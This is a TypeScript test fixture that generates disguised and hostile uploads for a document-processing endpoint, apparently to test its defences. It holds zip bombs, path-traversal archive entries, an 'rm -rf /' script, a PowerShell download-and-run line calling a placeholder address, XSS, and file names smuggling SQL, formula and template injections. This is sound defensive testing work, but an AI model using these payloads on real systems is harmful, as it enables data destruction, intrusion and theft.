import { gzipSync } from 'node:zlib';
import { nestedZip, zip } from './archive-shapes.ts';
import { type HostileRow, hostileList } from './hostile-file.ts';
import { textPdf } from './pdf-files.ts';
import { jpeg, png } from './picture-shapes.ts';
import { hostileBill } from './xml-files.ts';

const MIB = 1024 * 1024;
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const word = (name: string): Buffer =>
  zip([
    { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
    { name, content: Buffer.from('<w:document/>') },
  ]);

const PACKED: readonly HostileRow[] = [
  [
    'an archive of a hundred megabytes of zeros',
    'zeros.zip',
    () => zip([{ name: 'a.pdf', content: Buffer.alloc(100 * MIB) }]),
  ],
  ['archives in archives', 'nested.zip', () => nestedZip(3)],
  [
    'an archive that names one piece fifty thousand times',
    'overlap.zip',
    () => zip([{ name: 'a', content: Buffer.alloc(MIB) }], { namedTimes: 50_000 }),
  ],
  [
    'an archive with paths that climb',
    'climb.zip',
    () => zip([{ name: '../../../../etc/cron.d/x', content: Buffer.from('* * * * * root id') }]),
  ],
  [
    'an archive that lies about its sizes',
    'lies.zip',
    () => zip([{ name: 'a.xml', content: Buffer.from('<a/>'), says: 0xfffffff0 }]),
  ],
  ['an archive named .pdf', 'bill.pdf', () => zip([{ name: 'bill.pdf', content: textPdf(['Invoice 9']) }])],
  ['a packed bill', 'bill.xml', () => gzipSync(hostileBill({ number: 'Z-1' }))],
  ['a Word document', 'bill.docx', () => word('word/document.xml')],
  ['a Word document with macros named .pdf', 'macro.pdf', () => word('word/vbaProject.bin')],
  ['an Excel sheet', 'bill.xlsx', () => word('xl/workbook.xml')],
  ['an old Word document', 'bill.doc', () => latin(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(2_000)}`)],
  ['a RAR archive', 'bill.rar', () => latin('Rar!\x1a\x07\x01\0 packed')],
  ['a 7z archive', 'bill.7z', () => latin('7z\xbc\xaf\x27\x1c\0\x04 packed')],
  ['a tape archive', 'bill.tar', () => latin(`../../etc/passwd${'\0'.repeat(241)}ustar\x0000${'\0'.repeat(248)}`)],
];

const PROGRAMS: readonly HostileRow[] = [
  ['a program of Windows', 'bill.pdf', () => latin('MZ\x90\0\x04\0')],
  ['a program of Linux', 'bill', () => latin('\x7fELF\x02\x01')],
  ['a script', 'bill.xml', () => '#!/bin/sh\nrm -rf /'],
  ['a shortcut', 'bill.pdf.lnk', () => latin('L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F')],
  ['a class of Java', 'bill.class', () => latin('\xca\xfe\xba\xbe\0\0\0\x37')],
  ['a script of PowerShell', 'bill.ps1', () => 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a")'],
  ['a page of PostScript', 'bill.ps', () => '%!PS-Adobe-3.0\n{ 1 } loop'],
  ['a PostScript page named .pdf', 'loop.pdf', () => '%!PS-Adobe-3.0 EPSF\n{ (/etc/passwd) (r) file } loop'],
];

const PAGES: readonly HostileRow[] = [
  ['a web page named .pdf', 'login.pdf', () => '<!DOCTYPE html><html><body>Log in</body></html>'],
  ['a web page named .xml', 'login.xml', () => '<html><script>alert(document.cookie)</script></html>'],
  ['a web archive', 'mail.mht', () => 'MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>'],
  ['a letter', 'mail.eml', () => 'From: a@example.com\nTo: b@example.com\nSubject: Bill\n\nPlease pay.'],
  ['a text with fields', 'bill.rtf', () => '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://192.0.2.1/a.png"}}}'],
  ['words', 'notes.txt', () => 'Dear all, please pay.'],
];

const NOTHING: readonly HostileRow[] = [
  ['nothing at all', 'empty.pdf', () => Buffer.alloc(0)],
  ['one byte', 'one.pdf', () => Buffer.from('%')],
  ['a line end', 'line.csv', () => '\n'],
  ['nothing but a mark of order', 'mark.xml', () => '\ufeff'],
  ['zero bytes', 'zeros.pdf', () => Buffer.alloc(100_000)],
  ['forty-five megabytes of spaces', 'spaces.xml', () => Buffer.alloc(45 * MIB, ' ')],
  ['noise', 'noise.pdf', () => Buffer.from(Array.from({ length: 5_000 }, (_, at) => (at * at * 31 + 7) % 256))],
  ['a PDF named .xml', 'bill.xml', () => textPdf(['Invoice 21'])],
  ['a bill of XML named .pdf', 'bill.pdf', () => hostileBill({ number: 'Z-2' })],
  ['a JPEG named .pdf', 'photo.pdf', () => jpeg({ width: 310, height: 300 })],
  ['a PNG named .xml', 'photo.xml', () => png(320, 310)],
  ['a PDF named .jpg', 'bill.jpg', () => textPdf(['Invoice 22'])],
];

export const DISGUISE_FILES = hostileList('disguise', '/v1/documents', [...PACKED, ...PROGRAMS, ...PAGES, ...NOTHING]);

const NAMES: readonly (readonly [what: string, fileName: string])[] = [
  ['a path that climbs', '../../../../etc/passwd'],
  ['a path of Windows that climbs', '..\\..\\..\\Windows\\System32\\a.xml'],
  ['a path from the root', '/etc/cron.d/a.xml'],
  ['a path written in percents', '%2e%2e%2f%2e%2e%2fetc%2fpasswd.xml'],
  ['written from right to left', 'bill\u202elmx.exe'],
  ['of two thousand signs', `${'long'.repeat(500)}.xml`],
  ['of pictures', '\u{1f9fe}\u{1f4b6}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}.xml'],
  ['that is a formula', "=cmd|' /C calc'!A0.xml"],
  ['that is markup', '<img src=x onerror=alert(1)>.xml'],
  ['that is a query', "'; drop table document; --.xml"],
  ['of nothing but dots', '...'],
  ['of spaces', '   .xml'],
  ['of a device', 'CON.xml'],
  ['with a tab and a bell', 'bill\t\u0007.xml'],
  ['of two extensions', 'bill.pdf.xml'],
  ['of signs that join', `${'e\u0301\u0302\u0303'.repeat(80)}.xml`],
  ['of a template', '{{7*7}}#{7*7}.xml'],
  ['without one', ''],
];

/** Each a bill of its own, so that only the name is hostile. */
export const NAME_FILES = hostileList(
  'name',
  '/v1/documents',
  NAMES.map(
    ([what, fileName], at): HostileRow => [`a name ${what}`, fileName, () => hostileBill({ number: `N-${at + 1}` })],
  ),
);
